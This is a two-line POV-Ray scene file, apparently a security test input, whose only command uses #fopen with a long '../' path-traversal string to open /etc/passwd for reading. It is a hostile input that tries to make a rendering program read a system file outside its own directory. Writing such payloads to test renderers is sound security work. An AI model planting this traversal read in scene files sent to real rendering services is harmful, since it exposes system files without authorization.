#version 3.7;
#fopen F "../../../../../../../../etc/passwd" read
